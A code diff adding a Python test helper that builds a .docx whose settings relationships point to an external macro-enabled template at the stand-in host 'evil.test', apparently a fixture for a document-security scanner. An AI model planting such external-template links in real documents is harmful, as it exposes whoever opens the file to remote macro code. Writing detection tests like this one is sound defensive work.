@@ -45,6 +45,17 @@ def docx(**parts: bytes) -> bytes:
     return package({"[Content_Types].xml": TYPES, "word/document.xml": b"<w:document/>", **named})
 
 
+def linked(kind: str, *, encoding: str = "utf-8") -> bytes:
+    """Return a docx that names something elsewhere."""
+    text = (
+        f'<?xml version="1.0" encoding="{encoding}"?>'
+        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r" '
+        f'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" '
+        'Target="http://evil.test/a.dotm" TargetMode="External"/></Relationships>'
+    )
+    return docx(word___rels__settings_dot_xml_dot_rels=text.encode(encoding))
+
+
 def ofd() -> bytes:
     return package({"OFD.xml": b"<ofd:OFD/>", "Doc_0/Document.xml": b"<ofd:Document/>"})
 
